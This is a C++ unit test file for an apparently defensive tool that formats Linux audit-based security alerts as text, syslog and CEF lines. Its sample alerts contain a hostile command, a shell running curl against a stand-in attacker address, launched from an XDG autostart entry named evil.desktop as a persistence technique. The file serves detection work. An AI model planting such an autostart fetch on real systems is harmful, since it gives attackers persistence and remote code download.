// SPDX-License-Identifier: Apache-2.0
#include <doctest/doctest.h>

#include "lib/alert/budget.h"
#include "lib/alert/format.h"
#include "tests/support/sample_alert.h"

namespace audisp_eql::alert {
namespace {

TEST_CASE("the text for people says who, what, where and how to find it again") {
  const std::string want =
      "2026-11-24T08:41:03.412+01:00  MEDIUM  Network Connections Initiated Through XDG Autostart Entry\n"
      "  rule      dd52d45a-4602-4195-9018-ebe0f219c273 (risk 47)\n"
      "  host      desk7\n"
      "  user      alice (1000), logged in as 1001\n"
      "  process   /bin/sh (/usr/bin/dash), pid 24200\n"
      "    args    /bin/sh -c 'curl http://203.0.113.9:8123/x'\n"
      "    in      /home/alice\n"
      "  parent    /usr/bin/xfce4-session, pid 24100\n"
      "    args    xfce4-session\n"
      "    in      /\n"
      "  to        203.0.113.9:8123\n"
      "  threat    TA0003 Persistence: T1547 Boot or Logon Autostart Execution, T1547.013 XDG Autostart Entries\n"
      "  evidence  1. 2026-11-24T08:41:03.100+01:00  exec pid 24200 (success)   ausearch -a 5701\n"
      "  evidence  2. 2026-11-24T08:41:03.412+01:00  connection_attempted pid 24200 to 203.0.113.9:8123 (failure)"
      "   ausearch -a 5709\n"
      "  note      the parent ran before auditing began\n"
      "  id        ";
  const Alert a = test::sample_alert();
  CHECK(format_text(a, [](EventTime) { return 3600; }) == want + a.id + "\n");
}

TEST_CASE("the autostart entry is shown with what an analyst asks of it, in every format") {
  const Alert a = test::sample_entry_alert();
  const std::string out = format_text(a, {});
  CHECK(out.find("  entry     /home/alice/.config/autostart/evil.desktop (by systemd_unit)\n"
                 "    exec    sh -c \"curl http://203.0.113.9:8123/x\"\n"
                 "    file    owner 1000, changed 2026-11-24T06:00:00.000Z, sha256 5555") != std::string::npos);
  CHECK(out.find("    unit    app-evil@autostart.service\n") != std::string::npos);
  CHECK(format_line(a).find(" entry=/home/alice/.config/autostart/evil.desktop ") != std::string::npos);
  CHECK(format_cef(a, "1").find(" flexString1=/home/alice/.config/autostart/evil.desktop "
                                "flexString1Label=autostart entry") != std::string::npos);
}

TEST_CASE("arguments are quoted where a shell would split them") {
  Alert a = test::sample_alert();
  a.process.args = {"plain", "", "two words", "it's", "$HOME", "new\nline"};
  const std::string out = format_text(a, {});
  CHECK(out.find("plain '' 'two words' 'it'\"'\"'s' '$HOME' new\\x0Aline\n") != std::string::npos);
}

TEST_CASE("no byte of a process reaches the terminal unescaped") {
  for (const std::string& out : {format_text(test::hostile_alert(100), {}), format_line(test::hostile_alert(100))}) {
    CHECK(out.find('\x1b') == std::string::npos);
    CHECK(out.find('\x01') == std::string::npos);
    CHECK(out.find("\xE2\x80\xAE") == std::string::npos);
  }
}

TEST_CASE("colour is only written when asked for") {
  const Alert a = test::sample_alert();
  CHECK(format_text(a, {}, Colour::kOn).find("\x1b[33mMEDIUM\x1b[0m") != std::string::npos);
  CHECK(format_text(a, {}, Colour::kOff).find('\x1b') == std::string::npos);
}

TEST_CASE("an IPv6 destination is bracketed") {
  Alert a = test::sample_alert();
  a.destination = Destination{"2001:db8::7", 443};
  CHECK(format_text(a, {}).find("  to        [2001:db8::7]:443\n") != std::string::npos);
  a.network_transport = "udp";
  CHECK(format_text(a, {}).find("  to        [2001:db8::7]:443/udp\n") != std::string::npos);
  CHECK(format_line(a).find(" to=[2001:db8::7]:443/udp ") != std::string::npos);
  a.file.reset();
  CHECK(format_cef(a, "1").find(" dpt=443 proto=udp ") != std::string::npos);
}

TEST_CASE("a file is shown with the name it had, and where a link leads") {
  Alert a = test::sample_file_alert();
  const std::string text = format_text(a, {});
  CHECK(text.find("  file      /home/alice/.config/autostart/a b.desktop\n    was     /tmp/.x\n") != std::string::npos);
  CHECK(text.find("rename pid 24200 '/home/alice/.config/autostart/a b.desktop' (success)") != std::string::npos);
  CHECK(format_line(a).find(" file='/home/alice/.config/autostart/a b.desktop' was=/tmp/.x serials=5709 ") !=
        std::string::npos);
  CHECK(format_cef(a, "1").find(" filePath=/home/alice/.config/autostart/a b.desktop fname=a b.desktop "
                                "oldFilePath=/tmp/.x oldFileName=.x ") != std::string::npos);
  a.file->now.path.clear();
  a.file->original = {};
  a.file->target = "/opt/x";
  CHECK(format_text(a, {}).find("  file      a b.desktop\n    to      /opt/x\n") != std::string::npos);
  CHECK(format_line(a).find(" file='a b.desktop' serials=") != std::string::npos);
}

TEST_CASE("the line for syslog has the essentials as pairs") {
  const Alert a = test::sample_alert();
  CHECK(format_line(a) ==
        "medium alert: Network Connections Initiated Through XDG Autostart Entry host=desk7 user=alice pid=24200"
        " exe=/bin/sh args=[/bin/sh -c 'curl http://203.0.113.9:8123/x'] parent=/usr/bin/xfce4-session"
        " to=203.0.113.9:8123 serials=5701,5709 rule=dd52d45a-4602-4195-9018-ebe0f219c273 id=" +
            a.id);
}

TEST_CASE("a summary says how many alerts were held back, which and whose, in every format") {
  const Alert a = test::sample_summary();
  const std::string first = a.suppressed->first_id;
  const std::string last = a.suppressed->last_id;
  CHECK(format_line(a) ==
        "medium alert: Network Connections Initiated Through XDG Autostart Entry host=desk7 suppressed=995 first=" +
            first + " last=" + last + " users=[1000, 33 and 3 more] rule=" + a.rule.id + " id=" + a.id);
  const std::string text = format_text(a, {});
  CHECK(text.find("  held back 995 alerts, " + first + " to " + last + "\n") != std::string::npos);
  CHECK(text.find("  of users  1000, 33 and 3 more\n") != std::string::npos);
  const std::string cef = format_cef(a, "1");
  CHECK(cef.find(" act=alerts_suppressed ") != std::string::npos);
  CHECK(cef.find(" cnt=995 msg=alerts " + first + " to " + last + " were held back, of users 1000, 33 and 3 more") !=
        std::string::npos);
}

TEST_CASE("users of a summary are named, then counted") {
  const struct {
    Suppressed suppressed;
    std::string want;
  } rows[] = {
      {{1, "", "", {}, 0}, ""},
      {{1, "", "", {"0"}, 0}, "0"},
      {{1, "", "", {"0", "33"}, 1}, "0, 33 and 1 more"},
      {{1, "", "", {}, 19}, "19 more"},
  };
  for (const auto& row : rows) CHECK(users_text(row.suppressed) == row.want);
}

TEST_CASE("CEF escapes its separators") {
  Alert a = test::sample_alert();
  a.rule.name = "pipe | and \\ back";
  a.process.args = {"a=b", "c\\d", "e|f"};
  const std::string out = format_cef(a, "1.2");
  CHECK(out.rfind("CEF:0|audisp-eql|audisp-eql|1.2|dd52d45a-4602-4195-9018-ebe0f219c273|", 0) == 0);
  CHECK(out.find("|pipe \\| and \\\\\\\\ back|5|rt=1795506063412 externalId=") != std::string::npos);
  CHECK(out.find(" cs1=a\\=b c\\\\\\\\d e|f cs1Label=command line ") != std::string::npos);
  CHECK(out.find(" dst=203.0.113.9 dpt=8123 ") != std::string::npos);
  CHECK(out.find(" cs4=5701,5709 ") != std::string::npos);
  CHECK(out.find(" cs5=T1547,T1547.013 ") != std::string::npos);
}

TEST_CASE("CEF gives IPv6 destinations their own field") {
  Alert a = test::sample_alert();
  a.destination = Destination{"2001:db8::7", 443};
  const std::string out = format_cef(a, "1");
  CHECK(out.find(" c6a3=2001:db8::7 c6a3Label=destination address dpt=443") != std::string::npos);
  CHECK(out.find("dst=") == std::string::npos);
}

}  // namespace
}  // namespace audisp_eql::alert
